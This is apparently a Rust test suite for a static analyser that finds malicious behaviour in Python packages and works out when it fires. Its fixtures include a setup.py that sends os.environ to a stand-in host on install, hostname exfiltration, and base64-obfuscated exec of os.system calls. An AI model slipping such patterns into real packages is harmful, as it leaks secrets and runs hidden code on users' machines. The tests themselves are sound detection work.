//! Values that go from one place to another before they are used.
#![expect(clippy::unwrap_used, reason = "tests fail by panicking")]

use fondaco_python::{Analysis, Budget, Call, EntryPoints, Form, Role, SourceFile, Taint, analyse};
use fondaco_verdict::Trigger;

fn package(files: &[(&str, &str, &str, Role)]) -> Analysis {
    let paths: Vec<_> = files.iter().map(|(path, ..)| path.parse().unwrap()).collect();
    let sources: Vec<_> = files
        .iter()
        .zip(&paths)
        .map(|((_, module, text, role), path)| SourceFile {
            path,
            bytes: text.as_bytes(),
            form: Form::Source,
            role: *role,
            module,
        })
        .collect();
    analyse(&sources, &EntryPoints::default(), &Budget::default())
}

fn setup(text: &str) -> Analysis {
    package(&[("setup.py", "setup", text, Role::Setup)])
}

#[track_caller]
fn call<'a>(analysis: &'a Analysis, callee: &str) -> &'a Call {
    let mut calls = analysis.units.iter().flat_map(|unit| &unit.calls);
    calls.find(|call| call.callee == callee).unwrap_or_else(|| panic!("no {callee} in {analysis:#?}"))
}

#[test]
fn methods_and_attributes() {
    let found = setup(
        "import os, requests\nclass A:\n    host = 'http://x.example.invalid/'\n    def take(self):\n        return os.environ\n    def run(self):\n        requests.post(self.host, data=self.take())\nA().run()\n",
    );
    let post = call(&found, "requests.post");
    assert!(post.taint().has(Taint::ALL_VARIABLES));
    assert_eq!(post.texts(), ["http://x.example.invalid/"]);
    assert_eq!(post.trigger, Some(Trigger::Install));
}

#[test]
fn results_and_arguments_across_modules() {
    let found = package(&[
        (
            "pkg/__init__.py",
            "pkg",
            "from .b import facts\nfrom .c import send\nsend(facts())\n",
            Role::Module,
        ),
        ("pkg/b.py", "pkg.b", "import socket\ndef facts():\n    return socket.gethostname()\n", Role::Module),
        (
            "pkg/c.py",
            "pkg.c",
            "import requests\ndef send(x):\n    requests.post('http://x.example.invalid', data=x)\n",
            Role::Module,
        ),
    ]);
    let post = call(&found, "requests.post");
    assert!(post.taint().has(Taint::HOST));
    assert_eq!(post.trigger, Some(Trigger::Import));
    assert_eq!(*post.reach, ["pkg/__init__.py:3".to_owned()]);
}

#[test]
fn threads_temporary_files_and_branches() {
    let found = setup("import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()\n");
    assert_eq!(call(&found, "os.system").texts(), ["id"]);
    let found = setup(
        "import os, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b'import os\\nos.remove(\"a\")\\nprint(\"hello, hello\")\\n')\nos.system(f'start {f.name}')\n",
    );
    assert!(call(&found, "os.system").taint().has(Taint::WRITTEN));
    let found = setup(
        "import os, socket\nx = socket.gethostname()\nif os.name:\n    x = 'a'\nos.system('curl ' + x)\n",
    );
    assert!(call(&found, "os.system").taint().has(Taint::HOST));
}

#[test]
fn what_stands_under_main_runs_as_a_program() {
    let text = "import os\nif __name__ == '__main__':\n    os.system('id')\n";
    let found = package(&[("pkg/a.py", "pkg.a", text, Role::Module)]);
    assert_eq!(call(&found, "os.system").trigger, Some(Trigger::EntryPoint));
    assert_eq!(call(&setup(text), "os.system").trigger, Some(Trigger::Install));
    // Importing a package runs no more of it.
    let found = package(&[("pkg/__init__.py", "pkg", text, Role::Module)]);
    assert_eq!(call(&found, "os.system").trigger, Some(Trigger::EntryPoint));
    // One that is called so by its own code is no program.
    let named = text.replacen("if ", "__name__ = '__main__'\nif ", 1);
    let found = package(&[("pkg/__init__.py", "pkg", &named, Role::Module)]);
    assert_eq!(call(&found, "os.system").trigger, Some(Trigger::Import));
}

#[test]
fn python_2_is_followed() {
    let found = setup("import os, base64\nprint 'x'\nname = base64.b64decode('aWQgLXU=')\nexec name\n");
    assert!(call(&found, "builtins.exec").taint().has(Taint::DECODED));
}

/// Whoever keeps a function hides nothing by that: what runs it at the import is found, and what nobody asks for
/// does not count as run.
#[test]
fn functions_in_tables_run_where_they_are_asked_for() {
    let trigger = |rest: &str| {
        let text = format!(
            "import functools, collections, os, sys\nTABLE = {{}}\ndef put(name, f):\n    TABLE[name] = f\ndef keep(f):\n    \
             TABLE[f.__name__] = f\n    return f\ndef act(*a):\n    os.system('id')\n{rest}\n"
        );
        let found = package(&[("pkg/__init__.py", "pkg", &text, Role::Module)]);
        call(&found, "os.system").trigger
    };
    for run in [
        "for f in dict(a=act).values(): f()",
        "D = dict(a=act)\ndef go(name):\n    D[name]()\ngo('a')",
        "x = {}\ndict(a=act, **x)['a']()",
        "collections.defaultdict(act)['x']",
        "functools.cache(act)()",
        "def reg(f):\n    globals()['helper'] = f\nreg(act)\nhelper()",
        "keep(act)\nTABLE['act']()",
        "keep(act)\ndef go():\n    for f in TABLE.values():\n        f()\ngo()",
        "put(sys.argv[0], act)\nTABLE[sys.argv[0]]()",
        "def reg(f):\n    import threading\n    threading.Thread(target=lambda: f()).start()\n    return f\nreg(act)",
        "class Thread:\n    def __init__(self, f):\n        self.run = f\nThread(act)",
    ] {
        assert_eq!(trigger(run), Some(Trigger::Import), "{run}");
    }
    for kept in ["keep(act)", "D = dict(a=act)\ndef go(name):\n    D[name]()"] {
        assert_eq!(trigger(kept), Some(Trigger::Call), "{kept}");
    }
}

/// A library that is handed a function keeps it for whoever asks, unless its name says that it calls it; what is no
/// module hands over what is to run now.
#[test]
fn functions_that_libraries_are_handed_run_where_their_names_say_so() {
    const HEAD: &str = "import os, sys, lib, threading\ndef act(*a):\n    os.system('id')\n";
    let trigger = |rest: &str| {
        let found = package(&[("pkg/__init__.py", "pkg", &format!("{HEAD}{rest}\n"), Role::Module)]);
        call(&found, "os.system").trigger
    };
    for run in [
        "threading.Timer(9, act).start()",
        "lib.pool().submit(act)",
        "lib.run_soon(act)",
        "lib.retryCall(act)",
        "lib.Listener(on_press=act).start()",
        "lib.Worker(target=act)",
        "sys.meta_path.insert(0, act)",
    ] {
        assert_eq!(trigger(run), Some(Trigger::Import), "{run}");
    }
    for kept in [
        "lib.set_auth_mode('x', act)",
        "app = lib.App(act)",
        "lib.events.on('x', act)",
        "lib.Registry().register('x', act)",
    ] {
        assert_eq!(trigger(kept), Some(Trigger::Call), "{kept}");
    }
    let found = setup(&format!("{HEAD}lib.set_auth_mode('x', act)\n"));
    assert_eq!(call(&found, "os.system").trigger, Some(Trigger::Install));
}

/// What the package itself does with a function is looked at, also in another module: what is put away runs where code
/// of the keeper's module calls what it finds.
#[test]
fn what_is_put_away_runs_where_it_is_found() {
    let keeper = "class Hub:\n    def __init__(self):\n        self.all = {}\n    def keep(self, name, f):\n        self.all[name] = f\n    \
                  def fire(self, name):\n        for f in self.all.values():\n            f()\nHUB = Hub()\n\
                  def add(f):\n    HUB.all['x'] = f\ndef go(f):\n    f()\n\
                  def wrap(f):\n    def inner(*a):\n        return f(*a)\n    return inner\n\
                  class Kind:\n    def __init__(self, kind):\n        self.kind = kind\n    def make(self):\n        return self.kind()\n";
    let head = "import os\nfrom .hub import Hub, Kind, HUB, add, go, wrap\nclass Act:\n    def __init__(self, *a):\n        os.system('id')\ndef act(*a):\n    Act()\n";
    let trigger = |rest: &str| {
        let text = format!("{head}{rest}\n");
        let files = [
            ("pkg/__init__.py", "pkg", &*text, Role::Module),
            ("pkg/hub.py", "pkg.hub", keeper, Role::Module),
        ];
        call(&package(&files), "os.system").trigger
    };
    for kept in ["add(act)", "wrap(act)", "Kind(Act)"] {
        assert_eq!(trigger(kept), Some(Trigger::Call), "{kept}");
    }
    let bad: Vec<_> =
        ["go(act)", "add(act)\nHUB.fire('x')", "Hub().keep('x', act)\nHub().fire('x')", "Kind(Act).make()"]
            .into_iter()
            .filter(|run| trigger(run) != Some(Trigger::Import))
            .collect();
    assert!(bad.is_empty(), "{bad:?}");
    // However it is taken out.
    for taken in [
        "for f in self.all.values(): f()",
        "self.all['x']()",
        "self.all.get('x')()",
        "self.all.pop('x')()",
        "self.one()",
        "getattr(self, 'x')()",
    ] {
        let text = format!(
            "import os\nclass Own:\n    def __init__(self):\n        self.all = {{}}\n    def keep(self, f):\n        self.all[f.__name__] = f\n    \
             def go(self):\n        {taken}\ndef act(*a):\n    os.system('id')\nOWN = Own()\nOWN.keep(act)\n"
        );
        let of = |text: &str| {
            call(&package(&[("pkg/__init__.py", "pkg", text, Role::Module)]), "os.system").trigger
        };
        assert_eq!(of(&text), Some(Trigger::Call), "{taken}");
        assert_eq!(of(&format!("{text}OWN.go()\n")), Some(Trigger::Import), "{taken}");
    }
    // A list may be emptied by anybody.
    assert_eq!(trigger("TASKS = []\ndef later(f):\n    TASKS.append(f)\nlater(act)"), Some(Trigger::Import));
    let record = "from typing import NamedTuple\nclass Job(NamedTuple):\n    f: object\n";
    assert_eq!(trigger(&format!("{record}Job(act)")), Some(Trigger::Call));
}

#[test]
fn a_module_that_is_run_by_its_name_is_reached() {
    let init = "import subprocess, sys\nsubprocess.Popen([sys.executable, '-m', 'pkg.job'])\n";
    let job = "import os\nif __name__ == '__main__':\n    os.system('id')\n";
    let files =
        [("pkg/__init__.py", "pkg", init, Role::Module), ("pkg/job.py", "pkg.job", job, Role::Module)];
    assert_eq!(call(&package(&files), "os.system").trigger, Some(Trigger::Import));
}

#[test]
fn a_layer_runs_wherever_it_is_decoded() {
    // print('hello'), which another module decodes and runs, or two do.
    let data = "TEXT = 'cHJpbnQoJ2hlbGxvJyk7cHJpbnQoJ2hlbGxvJyk7cHJpbnQoJ2hlbGxvJyk7aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='\n";
    let asked = "import base64\nfrom .data import TEXT\ndef show():\n    exec(base64.b64decode(TEXT))\n";
    let unasked = "import base64\nfrom .data import TEXT\nexec(base64.b64decode(TEXT))\n";
    for (first, last, expected) in
        [(asked, unasked, Trigger::Import), (unasked, asked, Trigger::Import), (asked, asked, Trigger::Call)]
    {
        let found = package(&[
            ("p/__init__.py", "p", "", Role::Module),
            ("p/a.py", "p.a", first, Role::Module),
            ("p/b.py", "p.b", last, Role::Module),
            ("p/data.py", "p.data", data, Role::Module),
        ]);
        assert_eq!(found.units.iter().filter(|unit| unit.layer > 0).count(), 1);
        assert_eq!(call(&found, "os.system").trigger, Some(expected), "{first}{last}");
    }
}
